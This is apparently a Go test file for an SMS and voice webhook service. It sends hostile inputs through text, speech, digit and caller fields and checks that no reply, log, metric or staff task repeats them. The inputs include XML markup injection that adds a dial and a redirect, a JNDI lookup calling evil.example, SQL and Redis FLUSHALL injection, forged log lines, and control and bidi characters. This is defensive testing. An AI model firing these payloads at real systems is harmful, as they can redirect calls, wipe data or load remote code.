package main

import (
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"landline/prompts/segment"
)

// hostile are words that somebody might say or type. What must never be seen
// again, in an answer or a log, says FORGED.
var hostile = map[string]string{
	"control characters":     "\x00\x01\x07\x08\x0b\x1b[31mFORGED\x1b[0m\x7f\u0085",
	"emoji":                  "👩🏽\u200d⚕️🩺🏴\U000e0067\U000e0062\U000e007f FORGED",
	"right-to-left marks":    "\u202eDEGROF\u202c \u2066FORGED\u2069\u200f\u061c",
	"1,600 characters":       strings.Repeat("FORGED 🩺", 200),
	"1,600 of two units":     strings.Repeat("🩺", 1600),
	"combining marks":        "F" + strings.Repeat("\u0301", 1500) + "ORGED",
	"markup":                 `</Message></Response><Dial>+447700900999</Dial><!-- FORGED -->`,
	"markup in an attribute": `"/><Redirect>https://evil.example/FORGED</Redirect><x y="`,
	"a section of CDATA":     "]]><![CDATA[FORGED]]>&FORGED;&#70;",
	"a template":             "{{.}} {{.FORGED}} {{template \"FORGED\"}} ${FORGED} %s%n%[1]d",
	"a look-up":              "${jndi:ldap://evil.example/FORGED}",
	"a log line":             "hello\r\ntime=2026-09-16 level=ERROR msg=FORGED\r\n{\"level\":\"ERROR\",\"msg\":\"FORGED\"}",
	"a log line, otherwise":  "hello\u2028level=ERROR msg=FORGED\u2029\n\n\"FORGED\"",
	"a query":                "' OR 1=1; --FORGED\r\nFLUSHALL\r\n*1\r\n$8\r\nFLUSHALL\r\n",
	"no UTF-8":               "\xff\xfe\xc0\x80FORGED\xed\xa0\x80",
	"nothing":                "",
	"spaces":                 " \t\r\n\u00a0\u3000\u200b",
}

// sends sends a form as the carrier does.
func (f *fort) sends(path string, form url.Values) *httptest.ResponseRecorder {
	w := httptest.NewRecorder()
	f.router.ServeHTTP(w, asked(path, form, signedAs(newToken, fortAt+path, form)))
	return w
}

// harmless says what is wrong with an answer: it must be a document of what we
// write alone, in which nothing of the hostile words stands, and texts no
// longer than they may be.
func harmless(w *httptest.ResponseRecorder) error {
	if w.Code != http.StatusOK {
		return fmt.Errorf("status %d", w.Code)
	}
	document := w.Body.String()
	if strings.Contains(document, "FORGED") || strings.Contains(document, "evil.example") || !utf8.ValidString(document) {
		return fmt.Errorf("it says again what was said: %q", document)
	}
	d, in, text := xml.NewDecoder(strings.NewReader(document)), "", ""
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return nil
		}
		if err != nil {
			return err
		}
		switch token := token.(type) {
		case xml.StartElement:
			in, text = token.Name.Local, ""
			if !strings.Contains(" Response Message Say Gather Record Redirect Pause prosody break Hangup Dial Number ", " "+in+" ") {
				return fmt.Errorf("it has a <%s>: %s", in, document)
			}
		case xml.CharData:
			text += string(token)
			if strings.ContainsFunc(text, func(r rune) bool { return r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) }) {
				return fmt.Errorf("it says what cannot be said: %q", text)
			}
		case xml.EndElement:
			if n, _ := segment.Count(text); token.Name.Local == "Message" && n > 2 {
				return fmt.Errorf("a text of %d segments: %q", n, text)
			}
		}
	}
}

// Whatever is said, typed or keyed, at whichever question, is answered by a
// harmless document; it is in no log and no metric, and on no list of staff's.
func TestHostileWordsAreHarmless(t *testing.T) {
	t.Parallel()
	f := newFort(t, newToken)
	n := 0
	check := func(at string, w *httptest.ResponseRecorder) {
		t.Helper()
		if err := harmless(w); err != nil {
			t.Errorf("%s: %v", at, err)
		}
	}
	for what, words := range hostile {
		if err := f.advance(t.Context(), 5*time.Hour, func() error { return nil }); err != nil { // what was begun is over
			t.Fatal(err)
		}
		texts := func(body string) *httptest.ResponseRecorder {
			n++
			form := textOf(body)
			form.Set("MessageSid", fmt.Sprintf("SM%032x", n))
			form.Set("AccountSid", stageSID)
			form.Set("From", "+447700900102")
			return f.sends("/twilio/sms", form)
		}
		for _, right := range []string{"book", "4.7.85", "1", "1", "1"} {
			check(fmt.Sprintf("%s in place of the text %q", what, right), texts(words))
			check("after that", texts(right))
		}
		n++
		turn, call := 1, func(more ...string) url.Values {
			return callOf(append(more, "AccountSid", stageSID, "CallSid", fmt.Sprintf("CA%032x", n), "From", "+441632960101")...)
		}
		check("a call", f.sends("/twilio/voice", call()))
		for _, right := range []string{"1", "12031948", "1", "1"} {
			for _, form := range []url.Values{call("SpeechResult", words, "Confidence", words), call("Digits", right, "FromCity", words, "CallToken", words, "CallerName", words)} {
				check(fmt.Sprintf("%s at turn %d of a call", what, turn), f.sends(fmt.Sprintf("/twilio/voice/turn?t=%d&l=en", turn), form))
				turn++
			}
		}
		// Where only the carrier writes, it is refused, or as if it were not there.
		for field, value := range map[string]string{
			"Digits": words + "\r\n1", "CallSid": words, "CallStatus": words + "\r\n", "AccountSid": "AC" + words,
		} {
			form := with(call(), field, value)
			if w := f.sends(fmt.Sprintf("/twilio/voice/turn?t=%d&l=en", turn), form); w.Code != http.StatusBadRequest || w.Body.Len() > 0 {
				t.Errorf("%s where the carrier writes: status %d, %s", what, w.Code, w.Body)
			}
		}
		n++
		if len(words) < 200 {
			check(what+" as a caller's number", f.sends("/twilio/voice", call("From", words)))
			check(what+" as the reason of a fallback", f.sends("/twilio/voice/fallback", call("ErrorCode", words, "ErrorUrl", words)))
		}
	}

	lines := strings.Split(strings.TrimSuffix(f.log.String(), "\n"), "\n")
	if len(lines) < 100 {
		t.Fatalf("only %d lines are logged", len(lines))
	}
	for _, line := range lines {
		var record struct{ Time, Level, Msg string }
		if err := json.Unmarshal([]byte(line), &record); err != nil || record.Time == "" || record.Level == "" || record.Msg == "" {
			t.Errorf("no record: %q", line)
		}
	}
	metrics := httptest.NewRecorder()
	f.router.ServeHTTP(metrics, httptest.NewRequest(http.MethodGet, "/metrics", nil))
	tasks, err := f.tasks(t.Context())
	if err != nil || metrics.Code != http.StatusOK {
		t.Fatal(err, metrics.Code)
	}
	for where, seen := range map[string]string{"the log": f.log.String(), "the metrics": metrics.Body.String(), "the list of staff": fmt.Sprint(tasks)} {
		if strings.Contains(seen, "FORGED") || strings.Contains(seen, "evil.example") {
			t.Errorf("%s tells what was said", where)
		}
	}
	for _, task := range tasks {
		if strings.ContainsFunc(task.Words, unicode.IsControl) {
			t.Errorf("a task of more than a line: %q", task.Words)
		}
	}
}
